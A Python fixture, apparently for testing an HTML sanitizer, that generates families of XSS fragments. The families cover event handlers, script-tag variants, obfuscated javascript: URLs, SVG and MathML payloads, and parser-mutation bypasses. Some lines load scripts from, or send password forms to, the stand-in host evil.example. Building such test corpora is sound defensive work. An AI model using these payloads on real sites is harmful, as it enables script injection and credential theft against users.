"""Hostile fragments by families. Each calls `pwned()` if a browser runs anything of it."""

# ruff: noqa: E501 - a fragment is a line

from collections.abc import Iterator
from itertools import product

from body.judge import words
from body.oddities import ODDITIES

RUN = "pwned()"
HANDLERS = words(
    """
    onclick onload onerror onmouseover onmouseenter onfocus onfocusin onblur onanimationstart
    onanimationend ontransitionend onpointerenter onpointerrawupdate ontoggle onbeforetoggle
    onscroll onscrollend onwheel onkeydown oninput onsubmit onbeforeinput onauxclick oncopy
    oncut onpaste ondrag onpageshow onhashchange onmessage onresize onplay oncanplay
    onloadstart onbegin onend onrepeat onsecuritypolicyviolation onslotchange
    oncontentvisibilityautostatechange onfinish onstart onbounce onreadystatechange
    onpropertychange
    """
)
CARRIERS = (
    "<b {}>text</b>",
    "<img src=x {}>",
    "<video src=x {}></video>",
    "<details open {}>text</details>",
)


def handlers() -> Iterator[str]:
    for number, name in enumerate(HANDLERS):
        yield CARRIERS[number % len(CARRIERS)].format(f"{name}={RUN}")
    yield f'<img src="x"onerror="{RUN}">'
    yield f"<img/src=x/onerror={RUN}>"
    yield f"<IMG SRC=x OnErRoR={RUN}>"
    yield f"<img src=x onerror\n=\n'{RUN}'>"
    yield f"<img src=x\x0conerror={RUN}>"
    yield f"<img src=`x`onerror={RUN}>"
    yield f"<img alt='\"><img src=x onerror={RUN}>' src=x>"
    yield f'<a title="</a><img src=x onerror={RUN}>">text</a>'
    yield f'<p title="&quot;><img src=x onerror={RUN}>">text</p>'
    yield f"<p id='\"onmouseover={RUN} x=\"'>text</p>"
    yield f"<b onclick&#61;{RUN} onclick={RUN}>text</b>"
    yield f"<b on\x00click={RUN}>text</b>"
    yield f"<b o\u200bnclick={RUN} data-onclick={RUN}>text</b>"
    yield f"<body onload={RUN}><p>text"
    yield f"<frameset onload={RUN}>"
    yield f"<html onmouseover={RUN}><p>text</p></html>"
    yield f"<marquee onstart={RUN}>text</marquee>"
    yield f"<xss onmouseover={RUN} tabindex=1 id=x>text</xss>"
    yield f"<input autofocus onfocus={RUN}>"
    yield f"<select autofocus onfocus={RUN}><option>text</select>"
    yield f"<textarea autofocus onfocus={RUN}>text</textarea>"
    yield f"<keygen autofocus onfocus={RUN}>"
    yield f"<button popovertarget=x>a</button><div popover id=x onbeforetoggle={RUN}>text</div>"


def scripts() -> Iterator[str]:
    for opening in (
        "<script>",
        "<SCRIPT>",
        "<script >",
        "<script/x>",
        "<script\n>",
        "<script type=module>",
        "<script src=data:,pwned()>",
        "<script src=//evil.example/x.js>",
        "<script async defer>",
        "<script language=javascript>",
        "<script type=text/javascript;version=1.8>",
    ):
        yield f"{opening}{RUN}</script>"
    yield f"<scr<script>ipt>{RUN}</scr</script>ipt>"
    yield f"<<script>{RUN}//<</script>"
    yield f"<script>{RUN}"
    yield f"<!--><script>{RUN}</script>-->"
    yield f"<!-- --!><script>{RUN}</script>"
    yield f"<!--[if IE]><script>{RUN}</script><![endif]-->"
    yield f"<![CDATA[<script>{RUN}</script>]]>"
    yield f"<?xml version='1.0'?><script>{RUN}</script>"
    yield f"<? <script>{RUN}</script> ?>"
    yield f"</ <script>{RUN}</script>"
    yield f"<%<script>{RUN}</script>%>"
    yield f"<script><!--\n{RUN}//--></script>"
    yield f"<script>/*<!--*/{RUN}/*<script>*/</script></script>"
    yield f"<p><script>{RUN}</script>text</p>"
    yield f"<table><tr><script>{RUN}</script><td>text</table>"
    yield f"<select><script>{RUN}</script></select>"
    yield f"<title><script>{RUN}</script></title>"
    yield f"<title></title><script>{RUN}</script>"
    yield f"<textarea></textarea><script>{RUN}</script>"
    yield f"<xmp></xmp><script>{RUN}</script>"
    yield f"<noembed></noembed><script>{RUN}</script>"
    yield f"<plaintext><script>{RUN}</script>"
    yield f"]]><script>{RUN}</script>"
    yield f"&lt;script&gt;{RUN}&lt;/script&gt;<script>{RUN}</script>"
    yield f"\ufeff<script>{RUN}</script>"
    yield f"<script\x00>{RUN}</script\x00>"
    yield f"<pre><script>{RUN}</script></pre>"
    yield f"<script type='math/tex'>{RUN}</script><script>{RUN}</script>"
    yield f"<script type='math/tex'></code><img src=x onerror={RUN}></script>"


SCHEMES = (
    "javascript:",
    "JaVaScRiPt:",
    " javascript:",
    "\x01javascript:",
    "java\nscript:",
    "java\tscript:",
    "java\rscript:",
    "javascript\n:",
    "&#106;avascript:",
    "&#x6a;avascript:",
    "&#0000106avascript:",
    "javascript&colon;",
    "javascript&#58;",
    "java&Tab;script:",
    "java&NewLine;script:",
    "\u00a0javascript:",
    "\u2028javascript:",
    "&amp;#106;avascript:",
    "java\u00adscript:",
    "java\u200bscript:",
    "\ufeffjavascript:",
    "vbscript:",
    "livescript:",
    "data:text/html,",
    "blob:",
    "filesystem:",
    "view-source:javascript:",
    "jar:javascript:",
    "feed:javascript:",
    "mhtml:",
    "file:///",
)
PLACES = (
    "<a href='{}'>text</a>",
    "<img src='{}'>",
    "<area href='{}' shape=default>",
    "<blockquote cite='{}'>text</blockquote>",
    "<video poster='{}' src=x></video>",
    "<video src='{}'></video>",
    "<audio><source src='{}'></audio>",
    "<img srcset='{} 1x' src=x>",
    "<q cite='{}'>text</q>",
    "<track src='{}'>",
    "<input type=image src='{}'>",
    "<img src=x longdesc='{}'>",
    "<body background='{}'>",
    "<table background='{}'><td>text</table>",
    "<img src=x lowsrc='{}' dynsrc='{}'>",
    "<del cite='{}'>text</del>",
    "<a ping='{}' href=x>text</a>",
    "<link rel=stylesheet href='{}'>",
    "<base href='{}'><a href=x>text</a>",
    "<form action='{}'><button>text</button></form>",
    "<button formaction='{}'>text</button>",
    "<iframe src='{}'></iframe>",
    "<embed src='{}'>",
    "<object data='{}'></object>",
    "<applet code='{}'></applet>",
    "<portal src='{}'></portal>",
    "<frame src='{}'>",
    "<img data-src='{}'>",
    "<iframe data-src='{}'></iframe>",
    "<picture><source srcset='{}'><img></picture>",
    "<a xlink:href='{}'>text</a>",
    "<svg><a href='{}'><text>text</text></a></svg>",
    "<math href='{}'><mi>x</mi></math>",
    "<command icon='{}'>",
    "<html manifest='{}'>",
    "<isindex action='{}'>",
    "<noscript><img src='{}'></noscript>",
    "<img usemap='{}' src=x>",
)


def addresses() -> Iterator[str]:
    for scheme, place in product(SCHEMES, PLACES[:2]):
        yield place.replace("{}", f"{scheme}{RUN}")
    for number, place in enumerate(PLACES):
        for step in (0, 7, 13):
            scheme = SCHEMES[(number + step) % len(SCHEMES)]
            yield place.replace("{}", f"{scheme}{RUN}")
    for kind in (
        "text/html",
        "image/svg+xml",
        "text/xml",
        "application/xhtml+xml",
        "text/javascript",
        "",
        "image/png,<script>",
    ):
        for place in PLACES[:3]:
            yield place.replace("{}", f"data:{kind},<script>{RUN}</script>".replace("'", ""))
    yield "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9cHduZWQoKT4='>"
    yield "<a href='data:image/png;base64,iVBORw0KGgo='>text</a>"
    yield "<a href='\\\\evil.example\\x'>text</a>"
    yield "<a href='http://[::1' onclick=pwned()>text</a>"
    yield "<a href='//\u202ejavascript:'>text</a>"


def drawings() -> Iterator[str]:
    for inner in (
        f"<script>{RUN}</script>",
        f"<script href=data:,{RUN} />",
        "<style>@import 'x'</style>",
        f"<a href=javascript:{RUN}><text>text</text></a>",
        f"<a xlink:href=javascript:{RUN}><text>text</text></a>",
        f"<animate attributeName=href values=javascript:{RUN} />",
        f"<set attributeName=onmouseover to={RUN} />",
        f"<animate onbegin={RUN} attributeName=x dur=1s>",
        f"<use href='data:image/svg+xml,<svg id=x onload={RUN}>#x' />",
        f"<image href=x onerror={RUN} />",
        f"<foreignObject><img src=x onerror={RUN}></foreignObject>",
        f"<foreignObject><iframe srcdoc='<script>parent.{RUN}</script>'></iframe></foreignObject>",
        f"<title><img src=x onerror={RUN}></title>",
        f"<desc><script>{RUN}</script></desc>",
        f"<handler type=text/javascript ev:event=load>{RUN}</handler>",
        f"<discard onbegin={RUN}>",
        f"<text><![CDATA[</text><img src=x onerror={RUN}>]]></text>",
    ):
        yield f"<svg>{inner}</svg>"
    yield f"<svg onload={RUN}>"
    yield f"<svg/onload={RUN}><p>text"
    yield f"<svg aria-label='<img src=x onerror={RUN}>'></svg>"
    yield f"<svg><title>&lt;img src=x onerror={RUN}&gt;</title></svg>"


def formulas() -> Iterator[str]:
    yield f"<math><a xlink:href=javascript:{RUN}>x</a></math>"
    yield f"<math href=javascript:{RUN}><mi>x</mi></math>"
    yield f"<math><maction actiontype=statusline xlink:href=javascript:{RUN}>x</maction></math>"
    yield f"<math><annotation-xml encoding=text/html><img src=x onerror={RUN}></annotation-xml></math>"
    yield f"<math><annotation-xml encoding=application/xhtml+xml><script>{RUN}</script></annotation-xml></math>"
    yield f"<math><mtext><img src=x onerror={RUN}></mtext></math>"
    yield f"<math><mi><script>{RUN}</script></mi></math>"
    yield f"<math><mglyph src=x onerror={RUN}></math>"
    yield f"<math><semantics><annotation encoding=application/x-tex></annotation><img src=x onerror={RUN}></semantics></math>"
    yield f"<math alttext='\"><img src=x onerror={RUN}>'><mi>x</mi></math>"
    yield f"<math><annotation encoding='application/x-tex'>\"&gt;&lt;img src=x onerror={RUN}&gt;</annotation></math>"
    yield f"<span class=katex><math><mi onclick={RUN}>x</mi></math></span>"


def mutations() -> Iterator[str]:
    yield f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>"
    yield f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>"
    yield f"<svg></p><style><a id='</style><img src=1 onerror={RUN}>'>"
    yield f"<svg><style><img src=x onerror={RUN}></style></svg>"
    yield f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>"
    yield f"<noscript><style></noscript><img src=x onerror={RUN}></style>"
    yield f"<math><style><!--</style><a title='--><img src=x onerror={RUN}>'>"
    yield f"<svg><p><style><g title='</style><img src=x onerror={RUN}>'>"
    yield f"<select><math><mtext><style><a title='</style></mtext></math></select><img src=x onerror={RUN}>'>"
    yield f"<table><caption><svg><title><table><caption></caption></table><style><a id='</style><img src=x onerror={RUN}>'>"
    yield f"<listing>&lt;img src=x onerror={RUN}&gt;</listing>"
    yield f"<xmp>&lt;img src=x onerror={RUN}&gt;</xmp><xmp><img src=x onerror={RUN}></xmp>"
    yield f"<plaintext><img src=x onerror={RUN}>"
    yield f"<textarea><img src=x onerror={RUN}></textarea>"
    yield f"<textarea><p title='</textarea><img src=x onerror={RUN}>'>"
    yield f"<title><p title='</title><img src=x onerror={RUN}>'>"
    yield f"<iframe><p title='</iframe><img src=x onerror={RUN}>'>"
    yield f"<noembed><p title='</noembed><img src=x onerror={RUN}>'>"
    yield f"<noframes><p title='</noframes><img src=x onerror={RUN}>'>"
    yield f"<template><img src=x onerror={RUN}></template>"
    yield f"<div><template shadowrootmode=open><img src=x onerror={RUN}></template></div>"
    yield f"<template><template></template><script>{RUN}</script></template>"
    yield f"<p id='--><img src=x onerror={RUN}>'><!-- "
    yield f"<!--<img src='--><img src=x onerror={RUN}>'>-->"
    yield f"<a href='`'><img alt='`onerror={RUN}' src=x></a>"
    yield f"<p>a<table><td>b<p title='</td></table><script>{RUN}</script>'></table>"
    yield f"<svg><annotation-xml><foreignobject><style><!--</style><p id='--!&gt;&lt;img src=x onerror={RUN}&gt;'>"
    yield f"<math><annotation-xml encoding='text/html'><style><a title='</style><img src=x onerror={RUN}>'></annotation-xml></math>"
    yield f"<style><img title='</style><img src=x onerror={RUN}>'></style>"
    yield "<b>" * 40 + f"<img src=x onerror={RUN}>"
    yield f"<a><table><a href=javascript:{RUN}>text</table>"
    yield f"<image src=x onerror={RUN}>"
    yield f"<im\x00g src=x onerror={RUN}><im&#x00;g src=x onerror={RUN}>"
    yield f"<img src=x onerror={RUN}//"
    yield f"<img src='x' onerror='{RUN}'"
    yield f"&lt;img src=x onerror={RUN}&gt;<b title='&lt;img onerror={RUN}&gt;'>x</b>"


def pages() -> Iterator[str]:
    yield f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>"
    yield "<meta http-equiv=refresh content='0;url=https://evil.example/'>"
    yield "<meta http-equiv=content-security-policy content=\"default-src 'none'\">"
    yield "<meta charset=utf-7>+ADw-script+AD4-pwned()+ADw-/script+AD4-"
    yield "<base href=https://evil.example/><a href=x>text</a>"
    yield "<base target=_top><p>text"
    yield "<link rel=stylesheet href=//evil.example/x.css>"
    yield "<link rel=import href=//evil.example/x.html>"
    yield "<link rel=prefetch href=//evil.example/>"
    yield "<form action=//evil.example/><input name=password type=password><button>text</button></form>"
    yield "<form id=x></form><button form=x formaction=//evil.example/>text</button>"
    yield "<input type=hidden name=x value=y><select name=z><option>text</select>"
    yield f"<isindex type=image src=1 onerror={RUN}>"
    yield "<object type=text/x-scriptlet data=//evil.example/></object>"
    yield f"<object><param name=movie value=javascript:{RUN}><p>text</object>"
    yield "<object classid=clsid:1><param name=url value=//evil.example/x.swf></object>"
    yield "<embed src=//evil.example/x.swf allowscriptaccess=always>"
    yield "<embed code=//evil.example/x>"
    yield f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>"
    yield f"<iframe srcdoc='&lt;img src=x onerror=parent.{RUN}&gt;' src=about:blank></iframe>"
    yield f"<iframe srcdoc='<a href=javascript:{RUN}>text</a>'></iframe>"
    yield f"<iframe src=https://www.youtube.com/embed/abcdefghijk title='<img src=x onerror={RUN}>'></iframe>"
    yield f"<iframe src='https://www.youtube.com/embed/\"><img src=x onerror={RUN}>'></iframe>"
    yield f"<iframe src=https://evil.example/ onload={RUN}></iframe>"
    yield f"<iframe><img src=x onerror={RUN}></iframe>"
    yield f"<iframe src='//facebook.com/plugins/post.php?href=javascript:{RUN}'></iframe>"
    yield f"<iframe src='//w.soundcloud.com/player/?url=javascript:{RUN}'></iframe>"
    yield f"<iframe src=https://bandcamp.com/EmbeddedPlayer/x><a href=javascript:{RUN}>text</a></iframe>"
    yield "<frameset><frame src=//evil.example/></frameset>"
    yield f"<portal src=javascript:{RUN}></portal><fencedframe src=//evil.example/></fencedframe>"
    yield f"<dialog open onclose={RUN}>text</dialog>"
    yield "<img src=x name=getElementById><img src=x id=createElement>"
    yield f"<bgsound src=javascript:{RUN}>"
    yield "<layer src=//evil.example/></layer><ilayer src=x></ilayer>"
    yield f"<xml id=x><i><![CDATA[<img src=x onerror={RUN}>]]></i></xml>"
    yield f"<?import namespace=t implementation=#default#time2><t:set onbegin={RUN}>"


def styles() -> Iterator[str]:
    for rule in (
        "background:url(javascript:pwned())",
        "width:expression(pwned())",
        "behavior:url(x.htc)",
        "-moz-binding:url(//evil.example/x.xml#x)",
        "position:fixed;top:0;left:0;width:100%;height:100%",
        "color:red",
        "background-image:url(//evil.example/track)",
        "\\65xpression(pwned())",
        "list-style:url(javascript:pwned())",
        "content:url(x)",
        "display:none",
        "}</style><script>pwned()</script>",
    ):
        yield f'<p style="{rule}">text</p>'
    yield "<style>*{background:url(//evil.example/)}</style>"
    yield "<style>@import '//evil.example/x.css';</style>"
    yield f"<style></style><img src=x onerror={RUN}>"
    yield f"<style><!--</style><script>{RUN}//--></script>"
    yield "<style type=text/javascript>pwned()</style>"
    yield "<p class='x y z' style=all:initial>text</p>"


def widgets() -> Iterator[str]:
    for facts in (
        '{"url":"javascript:pwned()","title":"t"}',
        '{"title":"<img src=x onerror=pwned()>","url":"https://x.example/"}',
        '{"url":"data:text/html,<script>pwned()</script>"}',
        '{"targetUrl":"vbscript:pwned()"}',
        '{"image":"javascript:pwned()","url":"https://x.example/"}',
        '{"videoId":"\\"><script>pwned()</script>"}',
        '{"title"-"<svg onload=pwned()>","url":"https://x.example/"}',
        '{"audio_url":"javascript:pwned()"}',
        '{"gallery":{"images":[{"src":"javascript:pwned()"}],"caption":"<script>pwned()</script>"}}',
        "[[[[",
        "{}",
        "null",
    ):
        attrs = facts.replace("&", "&amp;").replace('"', "&quot;").replace("<", "&lt;")
        yield f'<div class="youtube-wrap" data-attrs="{attrs}"></div>'
        yield f'<div class="image-gallery-embed" data-attrs="{attrs}"></div>'
        yield f'<iframe data-attrs="{attrs}"></iframe>'
    yield f"<blockquote class=twitter-tweet cite=javascript:{RUN}><p>text</p><script>{RUN}</script></blockquote>"
    yield f'<blockquote class=instagram-media data-instgrm-permalink="https://x.example/\'onclick={RUN}">text</blockquote>'
    yield f"<lite-youtube videoid='\"><script>{RUN}</script>'></lite-youtube>"
    yield f"<lite-youtube videoid=abcdefghijk playlabel='<script>{RUN}</script>'></lite-youtube>"
    yield f"<script src='https://gist.github.com/x/1.js\"><img src=x onerror={RUN}>'></script>"
    yield f"<img data-src='x\" onerror=\"{RUN}' class=lazy>"
    yield f"<img data-srcset='x\"onerror={RUN} 1x, javascript:{RUN} 2x'>"
    yield f"<noscript><img src=x onerror={RUN}></noscript>"
    yield f"<picture><source srcset='javascript:{RUN}'><img onerror={RUN}></picture>"
    yield f"<video><source src=x onerror={RUN}><a href=javascript:{RUN}>text</a></video>"
    yield f"<div class=highlight><pre><code>&lt;script&gt;{RUN}&lt;/script&gt;<script>{RUN}</script></code></pre></div>"
    yield f"<table class=lntable><tr><td><pre>1</pre><td><pre><img src=x onerror={RUN}></pre></table>"
    yield f"<a class=footnote-anchor id='\"><img src=x onerror={RUN}>' href=javascript:{RUN}>1</a>"
    yield f"<div class=footnote><a class=footnote-number onclick={RUN}>1</a><div class=footnote-content><script>{RUN}</script></div></div>"
    yield f"<h2 id='x onclick={RUN}'>text<a class=headerlink href=javascript:{RUN}>#</a></h2>"
    yield f"<ul><li><input type=checkbox checked onfocus={RUN} autofocus>text</ul>"
    yield f"<a name='\"><img src=x onerror={RUN}>'>text</a>"
    yield f"<td style='text-align:right;x:expression({RUN})'>text"


def confusions() -> Iterator[str]:
    """Raw text within foreign elements: what one parser takes for text is markup to another."""
    raws = ("style", "xmp", "title", "noscript", "textarea", "noembed", "template")
    inner = ("mtext", "desc", "foreignObject", "annotation-xml encoding=text/html", "table", "mi")
    for foreign, element, raw in product(("math", "svg"), inner, raws):
        yield (
            f"<{foreign}><{element}><{raw}><!--</{raw}>"
            f'<img title="--&gt;&lt;img src=x onerror={RUN}&gt;">'
        )
        yield f"<form><{foreign}><{element}></form><form><mglyph><{raw}></{foreign}><img src=x onerror={RUN}>"


def oddities() -> Iterator[str]:
    yield from ODDITIES


FAMILIES = (
    handlers, scripts, addresses, drawings, formulas, mutations, pages, styles, widgets,
    confusions, oddities,
)  # fmt: skip


def fragments() -> list[tuple[str, str]]:
    """Return every fragment with the name of its family and its number there."""
    return [
        (f"{family.__name__} {number}", text)
        for family in FAMILIES
        for number, text in enumerate(family())
    ]
